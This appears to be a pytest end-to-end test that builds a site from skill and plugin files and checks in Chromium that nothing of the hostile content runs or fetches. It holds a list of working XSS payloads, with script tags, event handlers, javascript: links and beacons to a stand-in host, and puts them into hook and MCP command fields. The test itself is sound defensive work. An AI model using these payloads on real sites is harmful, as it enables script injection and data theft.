"""Hostile content in a real Chromium: in every field, text and name nothing of it runs or fetches.

The names and documents are those of the fuzz tests, the markup is what browsers have run before.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from functools import partial
from http.server import ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import pytest
from hypothesis import given
from hypothesis.strategies import SearchStrategy

from browser.chromium import Quiet, browser
from e2e.kit import Kit, in_this_process, write
from fuzz.hostile import NAUGHTY, documents
from fuzz.limits import LONG, many

pytestmark = [pytest.mark.e2e, pytest.mark.slow]

__all__ = ["browser"]

RUN = "window.ran=1"
MANY = 3000 if LONG else 300
AWAY = "http://192.0.2.1"
MARKUP = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</code></pre></div><script>{RUN}</script>",
    f'"><script src="{AWAY}/a.js"></script>',
    f'<img src=x onerror="{RUN}">',
    f'<img src="{AWAY}/pixel.png" srcset="{AWAY}/two.png 2x">',
    f'<svg onload="{RUN}"><image href="{AWAY}/b.png"/><animate onbegin="{RUN}"/></svg>',
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={RUN}>'>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe><iframe src="{AWAY}"></iframe>',
    f'<object data="data:text/html,<script>parent.{RUN}</script>"></object><embed src="{AWAY}">',
    f'<a href="javascript:{RUN}">a</a> <a href="java&#10;script:{RUN}">b</a>',
    f"[a](javascript:{RUN}) [b](JaVaScRiPt:{RUN}) [c](&#106;avascript:{RUN}) [d](\x01javascript:x)",
    f"[a](data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=) [b](vbscript:{RUN})",
    f"![a]({AWAY}/c.png) ![b](data:image/svg+xml,<svg/onload={RUN}>) ![c](//192.0.2.1/d.png)",
    f'[a]: javascript:{RUN}\n[b]: {AWAY} "onmouseover={RUN}"\n\n[a] [b] <javascript:{RUN}>',
    f"<style>@import '{AWAY}/e.css'; body {{ background: url({AWAY}/f.png) }}</style>",
    f'<link rel=stylesheet href="{AWAY}/g.css"><link rel=prefetch href="{AWAY}/h">',
    f'<meta http-equiv=refresh content="0;url={AWAY}"><base href="{AWAY}/">',
    f'<form action="{AWAY}"><button autofocus onfocus="{RUN}">x</button></form>',
    f'<details open ontoggle="{RUN}"><video autoplay src="{AWAY}/i.mp4" onerror="{RUN}"></video>',
    f'<template><img src=x onerror="{RUN}"></template><noscript><img src="{AWAY}/j"></noscript>',
    f"{{{{ 7 * 7 }}}} {{% raw %}} ${{{RUN}}} <%= {RUN} %>",
    "\u202etxt.exe\u202c \u2066a\u2069 \u200bz\ufeff \x1b[31mred \x9b31m \x07 \U000e0041",
    "| a | b |\n|---|---|\n" + f"| <script>{RUN}</script> | x |\n" * MANY,
    "|" + "a|" * MANY + "\n|" + "-|" * MANY + "\n|" + "b|" * MANY,
    "> " * MANY + f"<script>{RUN}</script>",
    "[" * MANY + "](" * MANY,
    "*" * MANY + "`" * 999 + "\n```html\n" + f"<script>{RUN}</script>",
]


def examples(strategy: SearchStrategy[Any], count: int) -> list[Any]:
    """Return values of a strategy, the same in each short run."""
    found: list[Any] = []

    @many(count)
    @given(strategy)
    def take(value: Any) -> None:
        found.append(value)

    take()
    return found


def quoted(text: str) -> str:
    """Return a text as YAML has it."""
    return json.dumps(text.encode("utf-8", "replace").decode())


def write_hostile(folder: Path) -> None:
    """Write a source that has the hostile texts in every place that pages show."""
    one = f'"><script>{RUN}</script><img src=x onerror={RUN}>'
    for number, markup in enumerate(MARKUP):
        told = f"description: {quoted(markup[:900])}\nlicense: {quoted(one)}\n"
        write(folder / f"skills/m-{number}/SKILL.md", f"---\nname: m-{number}\n{told}---\n")
        write(folder / f"skills/markup/references/{number}.md", markup)
        for suffix in ("html", "svg", "js", "json"):
            write(folder / f"skills/markup/files/{number}.{suffix}", markup)
    for number, data in enumerate(examples(documents, 60)):
        path = folder / f"skills/documents/references/{number}.md"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    for name in ("markup", "documents", "names"):
        write(folder / f"skills/{name}/SKILL.md", f"---\nname: {name}\ndescription: d\n---\n")
    for number, name in enumerate(NAUGHTY):
        safe = name.replace("/", "_").replace("\0", "").encode("utf-8", "replace").decode()[:60]
        write(folder / f"skills/names/references/{number} {safe}.md", f"# {safe}\n")
        write(folder / f"skills/names/{number}<img src=x onerror={RUN}>.md", one)
    write(folder / "agents/a.md", f"---\nname: a\ndescription: {quoted(one)}\n---\n{one}\n")
    write(folder / "commands/c.md", f"---\ndescription: {quoted(one)}\n---\n!`{one}`\n")
    write(
        folder / "p/.claude-plugin/plugin.json",
        json.dumps({"name": "p", "description": one, "license": one, "author": {"name": one}}),
    )
    write(
        folder / "p/skills/inner/SKILL.md", f"---\nname: inner\ndescription: {quoted(one)}\n---\n"
    )
    event = {"matcher": one, "hooks": [{"type": "command", "command": f"echo {one}"}]}
    write(folder / "p/hooks/hooks.json", json.dumps({"hooks": {"PreToolUse": [event]}}))
    server = {"command": one, "args": [one], "env": {"A": one}}
    write(folder / "p/.mcp.json", json.dumps({"mcpServers": {"s": server}}))


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, str]]:
    """The folder of the hostile site, and its address."""
    folder = tmp_path_factory.mktemp("hostile")
    write_hostile(folder / "source")
    kit = Kit(in_this_process, folder)
    kit.run("init", kit.collection)
    kit.run("collect", folder / "source", "--allow", "hidden-text", status=None)
    kit.run("site", "--to", folder / "www", status=None)
    handler = partial(Quiet, directory=str(folder / "www"))
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        thread = Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
        thread.start()
        yield folder / "www", f"http://127.0.0.1:{server.server_port}/"
        server.shutdown()
        thread.join()


def test_nothing_of_it_runs_or_is_fetched(served: tuple[Path, str], browser: Any) -> None:
    """Each page is opened, its parts unfolded, and everything in the text of others clicked."""
    folder, url = served
    pages = sorted(path for path in folder.glob("a/*/index.html"))
    assert len(pages) > len(MARKUP)
    if not LONG:
        # Those with most in them, and what the catalog shows of the others.
        pages = sorted(pages, key=lambda path: path.stat().st_size)[-9:]
    paths = [*pages, *folder.glob("*.html"), *folder.glob("release/*"), *folder.glob("source/*")]
    context = browser.new_context()
    context.add_init_script(
        "window.addEventListener('securitypolicyviolation', () => { window.blocked = 1 })"
    )
    context.set_default_timeout(120_000)
    page = context.new_page()
    asked: list[str] = []
    wrong: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("pageerror", lambda error: wrong.append(str(error)))
    page.on("dialog", lambda dialog: wrong.append(dialog.message))
    page.on("download", lambda download: wrong.append(download.url))
    for path in paths:
        page.goto(f"{url}{path.relative_to(folder)}", wait_until="load")
        found = page.evaluate(
            """() => {
                document.querySelectorAll('details').forEach((one) => { one.open = true; });
                const kept = [];
                for (const link of document.querySelectorAll('.file a, .diff a')) {
                    if (link.href && !/^(https?:|mailto:)/.test(link.href)) kept.push(link.href);
                    link.removeAttribute('href');
                }
                document.querySelectorAll('.file *').forEach((one) => {
                    for (const kind of ['click', 'mouseover', 'focus', 'toggle'])
                        one.dispatchEvent(new Event(kind, { bubbles: true }));
                });
                const others = 'img,iframe,object,embed,video,audio,base,svg image,'
                    + 'form[action],meta[http-equiv=refresh]';
                const handlers = [...document.querySelectorAll('*')].filter((one) =>
                    [...one.attributes].some((a) => a.name.startsWith('on') || a.name === 'style'));
                return { ran: window.ran ?? null, blocked: window.blocked ?? null, kept,
                    others: [...document.querySelectorAll(others)].map((one) => one.outerHTML),
                    handlers: handlers.map((one) => one.outerHTML) };
            }"""
        )
        assert not any(found.values()), (path, found)
    page.goto(url)
    for words in ("script", "onerror", "m-", "names", "\u202e"):
        page.fill("#query", words)
        page.wait_for_function("() => document.querySelector('#found').textContent !== ''")
        assert page.evaluate(
            "[window.ran, window.blocked, document.querySelector('.card img')]"
        ) == [None, None, None]
    context.close()
    assert not wrong
    assert [one for one in asked if not one.startswith(url)] == []


def test_what_hides_or_turns_text_is_written_out(served: tuple[Path, str]) -> None:
    """No page has a character that shows nothing, or shows others elsewhere."""
    folder, _ = served
    for path in (folder / "a").rglob("*.html"):
        found = set(path.read_text()) & {
            *"\u202e\u202c\u2066\u2069\u200b\ufeff\x1b\x9b\x07\U000e0041"
        }
        assert not found, path
